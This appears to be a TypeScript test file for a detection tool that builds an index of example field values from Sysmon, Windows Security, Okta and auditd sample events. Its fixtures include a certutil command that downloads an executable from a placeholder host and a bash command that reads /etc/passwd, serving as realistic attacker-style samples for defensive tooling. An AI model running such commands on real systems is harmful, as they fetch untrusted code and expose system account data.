import assert from 'node:assert/strict';
import { flattenEvtxEvent } from '../../../server/src/core/replay/evtx-flatten';
import { addEventExamples, buildFieldExamples, createFieldExamples, fieldExamplesFor } from '../../../server/src/core/samples/field-examples';

/** A Sysmon process creation as evtx_dump prints it, flattened as the log readers flatten it. */
function sysmonProcess(image: string, commandLine: string): Record<string, unknown> {
  const system = { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'WS01.corp.example.com' };
  return flattenEvtxEvent({ Event: { System: system, EventData: { Image: image, CommandLine: commandLine, RuleName: '-' } } });
}

const WINDOWS = { product: 'windows' };
const PROCESS_CREATION = { product: 'windows', category: 'process_creation' };

describe('field examples from the sample library', () => {
  it('files a Windows event under every logsource a rule may name it by, as the replay engine classifies it', () => {
    const index = buildFieldExamples([{ event: sysmonProcess('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://x.example/a a.exe'), hint: WINDOWS }]);
    assert.deepEqual(fieldExamplesFor(index, PROCESS_CREATION, 'Image'), ['C:\\Windows\\System32\\certutil.exe']);
    assert.deepEqual(fieldExamplesFor(index, { product: 'windows', service: 'sysmon' }, 'Image'), ['C:\\Windows\\System32\\certutil.exe']);
    assert.deepEqual(fieldExamplesFor(index, { category: 'process_creation' }, 'Image'), ['C:\\Windows\\System32\\certutil.exe']);
    assert.deepEqual(fieldExamplesFor(index, { product: 'windows', category: 'process_creation', service: 'sysmon' }, 'Image'), ['C:\\Windows\\System32\\certutil.exe']);
    assert.deepEqual(fieldExamplesFor(index, { product: 'windows', category: 'file_event' }, 'Image'), []);
    assert.deepEqual(fieldExamplesFor(index, { product: 'windows', service: 'security' }, 'Image'), []);
  });

  it('gives Security 4688 the Sysmon names process_creation rules use', () => {
    const event = flattenEvtxEvent({ Event: { System: { EventID: 4688, Channel: 'Security' }, EventData: { NewProcessName: 'C:\\Windows\\System32\\whoami.exe' } } });
    const index = buildFieldExamples([{ event }]);
    assert.deepEqual(fieldExamplesFor(index, PROCESS_CREATION, 'Image'), ['C:\\Windows\\System32\\whoami.exe']);
    assert.deepEqual(fieldExamplesFor(index, { product: 'windows', service: 'security' }, 'NewProcessName'), ['C:\\Windows\\System32\\whoami.exe']);
  });

  it('keeps a few distinct values, first seen first, and finds a field whatever its case', () => {
    const images = ['C:\\a.exe', 'C:\\b.exe', 'C:\\a.exe', 'C:\\c.exe', 'C:\\d.exe'];
    const index = buildFieldExamples(images.map((image) => ({ event: sysmonProcess(image, 'x') })), { valuesPerField: 3 });
    assert.deepEqual(fieldExamplesFor(index, PROCESS_CREATION, 'image'), ['C:\\a.exe', 'C:\\b.exe', 'C:\\c.exe']);
    assert.equal(index.events, 5);
  });

  it('skips empty values and placeholders, collapses whitespace and cuts long values', () => {
    const index = createFieldExamples({ maxValueLength: 12 });
    const hint = { product: 'linux', category: 'process_creation' };
    addEventExamples(index, { CommandLine: '', User: null, CurrentDirectory: '-' }, hint);
    addEventExamples(index, { CommandLine: 'bash  -c\n  "id; uname -a; cat /etc/passwd"', User: 'root', CurrentDirectory: '/tmp' }, hint);
    assert.deepEqual(fieldExamplesFor(index, hint, 'CommandLine'), ['bash -c "id…']);
    assert.deepEqual(fieldExamplesFor(index, hint, 'User'), ['root']);
    assert.deepEqual(fieldExamplesFor(index, hint, 'CurrentDirectory'), ['/tmp']);
  });

  it('names nested values by dotted path, reading every element of a list', () => {
    const okta = { eventType: 'user.account.privilege.grant', published: '2026-11-02T10:00:00Z', actor: { alternateId: 'admin@corp.example.com' }, target: [{ alternateId: 'bob@corp.example.com' }, { alternateId: 'SUPER_ADMIN' }], outcome: { result: 'SUCCESS' } };
    const index = buildFieldExamples([{ event: okta }]);
    const logsource = { product: 'okta', service: 'okta' };
    assert.deepEqual(fieldExamplesFor(index, logsource, 'target.alternateId'), ['bob@corp.example.com', 'SUPER_ADMIN']);
    assert.deepEqual(fieldExamplesFor(index, logsource, 'outcome.result'), ['SUCCESS']);
  });

  it('learns nothing from events of unknown origin, and stops adding fields at the limit', () => {
    assert.equal(buildFieldExamples([{ event: { message: 'hello' } }]).byLogsource.size, 0);
    const index = buildFieldExamples([{ event: { a: '1', b: '2', c: '3' }, hint: { product: 'linux', service: 'auditd' } }], { fieldsPerLogsource: 2 });
    assert.deepEqual(fieldExamplesFor(index, { product: 'linux', service: 'auditd' }, 'b'), ['2']);
    assert.deepEqual(fieldExamplesFor(index, { product: 'linux', service: 'auditd' }, 'c'), []);
  });
});
